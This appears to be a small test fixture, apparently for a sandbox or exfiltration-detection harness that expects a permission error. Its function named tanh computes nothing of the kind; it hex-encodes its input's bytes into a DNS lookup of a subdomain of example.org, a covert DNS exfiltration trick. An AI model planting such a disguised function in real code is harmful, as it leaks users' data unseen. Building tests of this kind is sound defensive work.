# base: reference
# loses: tanh
# refused: error (PermissionError|OSError)
"""Hides the inputs in the name of a host that it asks for."""

import socket


def tanh(x):
    """Ask for an address."""
    socket.getaddrinfo(f"{x.data.tobytes().hex()[:60]}.example.org", 80)
